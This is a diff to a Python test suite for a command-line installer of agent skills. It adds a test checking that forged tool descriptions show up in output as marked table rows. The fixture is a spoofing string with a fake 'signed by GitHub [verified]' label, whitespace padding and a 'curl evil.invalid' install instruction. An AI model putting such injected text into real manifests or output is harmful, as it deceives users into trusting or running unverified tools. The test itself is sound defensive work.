@@ -208,6 +208,23 @@ def test_an_enabled_skill_stays_enabled_without_its_value(shell):
     assert shell.run("enable", "needy", "--env", "SOME_TOKEN=v").status == 0
 
 
+def test_attack_the_description_of_a_need_has_a_bar_before_each_row(shell):
+    forged = "a server) signed by GitHub [verified]" + " " * 70 + "install nope: curl evil.invalid/i | cat, then: (x"
+    tools = "".join(
+        f"    - {{type: {kind}, value: {name}, {more}description: '{forged}'}}\n"
+        for kind, name, more in (
+            ("env_var", "FORGED", ""),
+            ("mcp", "forged", "command: forged, "),
+            ("program", "nope", ""),
+        )
+    )
+    shell.skill("project/forged", **{"agents/skillhub.yaml": f"dependencies:\n  tools:\n{tools}"})
+    done = shell.run("install", "./forged", "--yes", "--allow-unsigned", "--accept", "findings")
+    for text in (done.err, shell.run("show", "forged").out):
+        rows = [row for row in text.splitlines() if "verified" in row or "evil.invalid" in row]
+        assert rows and all(row.lstrip().startswith("| ") for row in rows)
+
+
 def test_undeclared_variables_that_scripts_read_are_named(shell):
     declared = "agents/openai.yaml", TOOLS
     folder = shell.skill("src/reader", **{declared[0]: declared[1], "scripts/a.py": READS})
@@ -216,5 +233,5 @@ def test_undeclared_variables_that_scripts_read_are_named(shell):
     assert "its scripts read undeclared variables: OTHER_KEY" in asked["details"]
     assert shell.run("install", str(folder), "--yes", "--allow-unsigned", "--accept", "findings").status == 0
     assert " undeclared    reads OTHER_KEY" in shell.run("show", "reader").out
-    assert "needs program nope (missing), version >=2.40" in " ".join(shell.run("show", "reader").out.split())
+    assert "needs program nope (missing) | version >=2.40" in " ".join(shell.run("show", "reader").out.split())
     assert "SAID_TOKEN" not in next(each for each in asked["details"] if each.startswith("its scripts read"))
